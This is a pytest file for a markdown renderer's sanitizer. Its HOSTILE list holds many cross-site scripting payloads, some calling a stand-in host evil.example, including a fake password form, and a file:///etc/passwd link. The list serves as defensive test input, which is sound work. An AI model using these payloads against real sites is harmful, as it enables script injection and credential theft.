"""Markdown becomes HTML in which nothing runs and nothing is fetched, whatever somebody writes."""

import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from capecontrol.web import rendering
from capecontrol.web.rendering import render

TAGS = {"p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span", "div"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
TAGS |= {f"h{level}" for level in range(1, 7)}
ATTRIBUTES = {"href", "title", "rel", "class", "start"}

HOSTILE = [
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style=position:fixed;inset:0>x</div>",
    "<p onclick=alert(1)>x</p>",
    "<textarea autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- comment -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "</p></div></main><h1>Ours</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "<x/onmouseover=alert(1)>",
    "<\x0cscript>alert(1)</script>",
    # Links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example 'title\" onclick=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: <javascript:alert(1)> "t"\n\n[x][]',
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    "[a](javascript://%0aalert(1))",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    # Images
    "![x](http://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '!["onerror="alert(1)](x)',
    "![x](x 'a\" onerror=\"alert(1)')",
    "[![x](http://evil.example/pixel.gif)](http://evil.example)",
    "![<script>alert(1)</script>](//evil.example/x)",
    # Code
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\ny\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```js\n`${alert(1)}`</span><img src=x onerror=alert(1)>\n```",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "~~~nosuchlanguage\n<b>\n~~~",
    # Structure
    "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
    "1. <script>alert(1)</script>\n   - [x](javascript:alert(1))",
    "<div>\n\n**bold**\n\n</div>",
    "# <svg onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "\u202ejavascript:alert(1)",
    "\x00<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7 * 7 }} {% include 'x' %} ${7*7}",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_that_somebody_writes_runs_or_is_fetched(markdown: str) -> None:
    html = render(markdown)
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.name in TAGS, html
        assert set(tag.attrs) <= ATTRIBUTES, html
        if "class" in tag.attrs:
            assert tag.name in ("span", "code"), html
            assert all(re.fullmatch(r"language-[a-z+0-9]+|[a-z0-9]{1,4}", name) for name in tag["class"]), html
        if tag.name == "a" and tag.has_attr("href"):
            assert urlsplit(str(tag["href"])).scheme in ("", "http", "https", "mailto"), html
            assert set(tag["rel"]) == {"noopener", "noreferrer", "nofollow"}, html


def test_there_are_enough_hostile_samples() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("markdown", HOSTILE)
def test_drawing_twice_gives_the_same(markdown: str) -> None:
    assert rendering._draw(markdown) == render(markdown) == render(markdown)


def test_markup_is_shown_as_the_text_it_is() -> None:
    shown = BeautifulSoup(render("<b onclick=x>hello</b> & <i>"), "html.parser").get_text().strip()
    assert shown == "<b onclick=x>hello</b> & <i>"


def test_an_image_becomes_a_link_that_tells_nobody_anything() -> None:
    link = BeautifulSoup(render("![a seal](https://pictures.example.com/seal.png)"), "html.parser").a
    assert link is not None
    assert (link["href"], link.get_text()) == ("https://pictures.example.com/seal.png", "a seal")


def test_what_people_write_with_comes_out() -> None:
    html = render(
        "# Title\n\n**b** *i* ~~s~~ `c`\n\n- one\n- two\n\n3. three\n\n> said\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\nline\nbreak\n\n[help](/help/limits#x)"
    )
    for expected in ("<h1>", "<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>", "<ul>", "<blockquote>"):
        assert expected in html
    assert '<ol start="3">' in html
    assert "<td>2</td>" in html
    assert "<br>" in html
    assert 'href="/help/limits#x"' in html


def test_code_of_a_known_language_is_coloured() -> None:
    html = render("```python\nimport os\n```")
    assert 'class="language-python"' in html
    assert '<span class="kn">import</span>' in html


def test_code_in_any_language_keeps_every_character() -> None:
    code = "if (a < b && c > d) {\n\t\"x\" 'y' \\ é 🦭\n}\n"
    for language in ("", "python", "c", "sql", "nosuchlanguage"):
        block = BeautifulSoup(render(f"```{language}\n{code}```"), "html.parser").code
        assert block is not None
        assert block.get_text().strip() == code.strip()


def test_much_code_is_shown_without_colours() -> None:
    """Colouring takes time that grows with the square, so one message may have only so much of it."""
    html = render("```python\n" + "import os\n" * 290 + "```\n\n```python\nimport sys\n" + "x = 1\n" * 40 + "```")
    assert html.count('<span class="kn">import</span>') == 290
    assert "import sys" in html


@pytest.mark.parametrize(
    "unit", ["[", "![", "[a](", "*a_ ", "`", "> ", "- ", "<", "&", "|", "~~", "\\", "(", "a  \n", "```java\na\t\n```\n"]
)
def test_the_longest_message_of_dense_markup_is_drawn_in_time(unit: str) -> None:
    """By pytest's own timeout: before the limit on colours one of these took minutes."""
    assert render((unit * 32_000)[:32_000])


# How much


WIDE_TABLE = "|a" * 181 + "\n" + "|-" * 181 + "\n" + "|\n" * 362 + "\nx\n\n"
PIECES = ["[", "]", "](b)", "![", "*", "**", "_", "~~", "`", "> ", "- ", "1. ", "<", "&", "|", "|-|-|\n", "|a|b|\n"]
PIECES += ["|\n", "|" * 70, "|-" * 70, "\n", "\n\n", "```python\n", "```\n", "\\", " ", "    ", "#", "---\n", '"', "é"]
PIECES += ["[a]", "[a]: <" + "x" * 300 + ">\n", "http://a.example/", "0)\n"]

PLACES = ["{} ", "{}\n", "{}\n\n", "> {} ", "- {}\n", "  - {}\n", "1. {}\n", "# {}\n", "    {}\n", "| {} ", "|{}|\n"]
PLACES += ["|{}|{}|\n|-|-|\n", "|{}|{}|{}|\n", "*{}* ", "**{} ", "~~{}~~ ", "`{}` ", "[{} ", "{}] ", "![{} ", "<{}> "]
PLACES += ["```\n{}\n", "~~~\n", "> " * 11, "- " * 7, "---\n", "[{}]: {}\n", "```{} {}\n"]


def shown(markdown: str) -> str:
    """Return the text that a reader of the drawn markdown sees."""
    return BeautifulSoup(render(markdown), "html.parser").get_text()


def most_for(markdown: str) -> int:
    return 20 * len(markdown) + 10_000


def test_wide_tables_with_short_rows_do_not_grow_without_end() -> None:
    """The parser fills each short row up: such a message was 16 MB of cells, a minute and 880 MB of memory."""
    message = (WIDE_TABLE * 22)[:32_000]
    html = render(message)
    assert len(html) < most_for(message)
    assert html.count("<td>") <= 5_000
    assert shown(message).count("a") == message.count("a")


def test_from_the_first_table_too_many_on_they_stay_as_written() -> None:
    small = "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    html = render(small + WIDE_TABLE + small)
    assert html.count("<table>") == 1
    assert html.index("<table>") < html.index("|a|a|a")
    assert "| 1 | 2 |" in html


def test_a_large_table_that_somebody_filled_in_is_a_table() -> None:
    html = render("| a | b | c |\n|---|---|---|\n" + "| one | two | three |\n" * 1_000)
    assert html.count("<td>") == 3_000


def test_what_a_row_has_beyond_its_tables_width_is_shown_in_the_last_cell() -> None:
    html = render("| a | b |\n|---|---|\n| 1 | 2 | 3 | `4` |\n| 5 |\n6 | 7 |  | 8\\|")
    cells = [cell.get_text() for cell in BeautifulSoup(html, "html.parser").find_all("td")]
    assert cells == ["1", "2 | 3 | 4", "5", "", "6", "7 |  | 8|"]


def test_the_definition_of_a_link_is_shown_too() -> None:
    assert shown("[note]: milk").strip() == "note: milk"
    html = render("See [the tides][1].\n\n[1]: https://tides.example.com\n[2]: https://b.example.com 'B'\n")
    assert '<a href="https://tides.example.com"' in html
    assert ">the tides</a>" in html
    assert shown("> [note]: milk\n>   'and bread'\n").split() == ["note:", "milk", "'and", "bread'"]


@pytest.mark.parametrize(
    "address",
    [
        "ftp://example.com/tides.txt",
        "FTP://example.com",
        "tel:+27215550100",
        "magnet:?xt=1",
        "javascript:alert(1)",
        "http://",
        "http://[",
        "https://example.com:99999999/",
    ],
)
def test_an_address_that_leads_nowhere_is_shown_as_it_was_written(address: str) -> None:
    for form in ("[x]({})", "![x]({})", '[x]({} "y")', "[x]: {}", "[[x]({})]"):
        written = form.format(address)
        assert shown(written).strip() == written
        assert "<a" not in render(written)


def test_an_address_in_angle_brackets_is_shown_with_or_without_a_link() -> None:
    assert shown("<ftp://example.com/a&b>").strip() == "<ftp://example.com/a&b>"
    assert shown("<http://example.com>").strip() == "http://example.com"


def test_what_stands_beside_a_fence_is_shown() -> None:
    assert shown("```buy milk\n```").strip() == "buy milk"
    assert shown("```buy milk\nand bread\n```").strip() == "buy milk\nand bread"
    assert shown("```milk\n```").strip() == "milk"
    assert shown("```python print(1)\nprint(2)\n```").strip() == "python\nprint(1)\nprint(2)"


@pytest.mark.parametrize("language", ["mermaid", "Python", "c++", "<b>", '"onclick="alert(1)'])
def test_the_language_of_a_code_block_is_shown_as_it_was_written(language: str) -> None:
    html = render(f"```{language}\nx = 1\n```")
    block = BeautifulSoup(html, "html.parser").pre
    assert block is not None
    label = block.find("span", class_="lang")
    assert label is not None
    assert (label.get_text(), label.attrs) == (language, {"class": ["lang"]})
    assert block.get_text() == f"{language}\nx = 1\n"
    assert len(block.find_all("b")) == 0


@pytest.mark.parametrize(
    "markdown",
    [
        "[" * 32_000,
        "![[" * 10_600,
        "- a\n" * 8_000,
        "> " * 30 + "deep down",
        "- " * 30 + "deep down\n\nand on",
        "[a]: <http://a.example/" + "x" * 16_000 + ">\n\n" + "[a] " * 3_900,
    ],
    ids=["brackets", "images", "items", "quotations", "lists", "one address in many links"],
)
def test_what_is_too_much_is_shown_as_it_was_written(markdown: str) -> None:
    assert BeautifulSoup(render(markdown), "html.parser").code.get_text() == markdown  # type: ignore[union-attr]


def test_what_is_shown_as_it_was_written_runs_as_little() -> None:
    html = render("<script>alert(1)</script>" + "[" * 32_000)
    assert "<script" not in html
    assert html.startswith("<pre><code>&lt;script&gt;")


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=25), st.integers(1, 60))
def test_whatever_is_written_is_drawn_within_a_multiple_of_its_length(pieces: list[str], times: int) -> None:
    markdown = ("".join(pieces) * times)[:32_000]
    assert len(render(markdown)) <= most_for(markdown)


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(st.lists(st.sampled_from(PLACES), min_size=1, max_size=25))
def test_every_word_that_is_written_can_be_read(pieces: list[str]) -> None:
    template = "".join(pieces)
    words = [f"word{number}x" for number in range(template.count("{}"))]
    markdown = template.format(*words)
    text = shown(markdown)
    assert [word for word in words if word not in text] == []


def test_only_so_many_bytes_of_what_was_drawn_are_kept() -> None:
    drawn = rendering._Drawn(10_000)
    for number in range(100):
        drawn.keep(f"{number}", "x" * (number * 20))
        assert drawn.bytes <= 10_000
    drawn.keep("99", "x")
    assert drawn.get("99") == "x" * 1_980
    assert drawn.get("0") is None
    drawn.keep("more than all", "x" * 20_000)
    assert (drawn.bytes, drawn.get("99")) == (0, None)


def test_what_is_drawn_again_and_again_is_kept() -> None:
    drawn = rendering._Drawn(10_000)
    drawn.keep("often", "x")
    for number in range(100):
        drawn.keep(f"{number}", "x" * 500)
        assert drawn.get("often") == "x"
